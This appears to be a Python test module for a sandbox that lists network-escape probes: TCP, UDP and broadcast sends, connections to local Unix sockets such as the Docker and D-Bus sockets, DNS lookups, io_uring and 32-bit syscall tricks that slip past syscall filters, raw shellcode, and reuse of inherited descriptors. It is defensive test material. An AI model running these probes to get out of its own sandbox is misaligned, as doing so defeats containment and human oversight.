"""Talking to anybody outside, by sockets of all families and what replaces them."""

from . import Attack

ATTACKS = [
    Attack("tcp", "connects to a server on this machine by TCP, plain and by HTTP",
           "the server hears nothing", cells=['''
import http.client, socket, urllib.request

@tries
def plain():
    with socket.create_connection(("127.0.0.1", @TCP@), 1) as link:
        link.sendall(b"attack-mark")
        return "sent"

@tries
def by_http():
    link = http.client.HTTPConnection("localhost", @TCP@, timeout=1)
    link.request("GET", "/attack-mark")
    return "sent"

@tries
def by_urllib():
    return urllib.request.urlopen("http://127.0.0.1:@TCP@/attack-mark", timeout=1) or "sent"

@tries
def over_ipv6():
    with socket.create_connection(("::ffff:127.0.0.1", @TCP@), 1) as link:
        return link.send(b"attack-mark")
''', '''
@tries
def in_c():
    fd = libc.socket(2, 1, 0)
    address = b"\\x02\\0" + (@TCP@).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    return fd >= 0 and libc.connect(fd, address, 16) == 0

@tries
def fast_open():
    return socket.socket().sendto(b"attack-mark", 0x20000000, ("127.0.0.1", @TCP@))
''']),
    Attack("udp", "sends to a server on this machine by UDP, and to all by broadcast",
           "the server hears nothing", cells=['''
import socket
for host in ("127.0.0.1", "127.255.255.255", "224.0.0.1", "255.255.255.255"):
    @tries
    def send():
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return one.sendto(b"attack-mark", (host, @UDP@))

@tries
def by_message():
    one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    return one.sendmsg([b"attack-mark"], [], 0, ("::ffff:127.0.0.1", @UDP@))

@tries
def light():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b"a", ("127.0.0.1", @UDP@))
''']),
    Attack("unix-sockets", "connects to servers of this machine by paths and abstract names",
           "the servers hear nothing", cells=['''
import socket
for address in ("@UNIX@", "\\0@ABSTRACT@", "/run/docker.sock", "/var/run/dbus/system_bus_socket",
                "/run/systemd/journal/socket", "/dev/log", "/tmp/.X11-unix/X0"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        @tries
        def connect():
            one = socket.socket(socket.AF_UNIX, kind)
            one.settimeout(1)
            one.connect(address)
            return one.send(b"attack-mark")

@tries
def by_pair():
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return one.sendmsg([b"attack-mark"], [], 0, "@UNIX@")

@tries
def by_pair_and_abstract_name():
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return one.sendto(b"attack-mark", "\\0@ABSTRACT@-datagram")

@tries
def by_pair_connected_anew():
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.connect("\\0@ABSTRACT@-datagram")
    return one.send(b"attack-mark")
''']),
    Attack("rare-families", "opens raw, packet, netlink, crypto, virtual machine and other sockets",
           "none of them opens", cells=['''
import socket
for family in range(1, 46):
    for kind in (1, 2, 3, 5):
        for protocol in (0, 1, 255):
            try:
                one = socket.socket(family, kind, protocol)
                print("LOOT: a socket of family", family, "kind", kind)
                one.close()
            except (OSError, ValueError):
                pass
''']),
    Attack("serves", "listens for connections, and takes some of the grader's",
           "it cannot listen", cells=['''
import socket

@tries
def listen():
    one = socket.socket()
    one.bind(("0.0.0.0", 0))
    one.listen()
    return one.getsockname()

@tries
def listen_on_a_path():
    one = socket.socket(socket.AF_UNIX)
    one.bind("here.sock")
    one.listen()
    return "listens"

@tries
def asyncio_server():
    import asyncio
    loop = asyncio.new_event_loop()
    server = asyncio.start_server(lambda *values: None, "127.0.0.1", 0)
    return loop.run_until_complete(server).sockets
''']),
    Attack("names-of-hosts", "asks for the addresses of other machines, and so tells them",
           "nobody is asked", cells=['''
import socket
tries(lambda: socket.getaddrinfo("attack-mark.example.org", 80))
tries(lambda: socket.gethostbyname("example.org"))
tries(lambda: socket.gethostbyaddr("127.0.0.1"))
''']),
    Attack("rings", "opens sockets by io_uring, where filters of system calls do not look",
           "the kernel does not serve it", cells=['''
@tries
def ring():
    parameters = ctypes.create_string_buffer(120)
    return libc.syscall(425, 8, parameters) >= 0
''']),
    Attack("other-door", "makes system calls by numbers of 32 bits and of x32",
           "the kernel does not serve them", cells=['''
import mmap, platform

@tries
def x32():
    return libc.syscall(0x40000000 + 41, 2, 1, 0) >= 0

@tries
def by_interrupt():
    if platform.machine() != "x86_64":
        return None
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3"))  # socket(2, 1, 0)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)() >= 0
''']),
    Attack("inherited-sockets", "takes every descriptor for a socket, and asks who is at its end",
           "none leads out", cells=['''
import socket
for fd in range(0, 256):
    @tries
    def peer():
        one = socket.socket(fileno=os.dup(fd))
        try:
            return one.family in (socket.AF_INET, socket.AF_INET6) and one.getpeername()
        finally:
            one.detach()
''']),
]
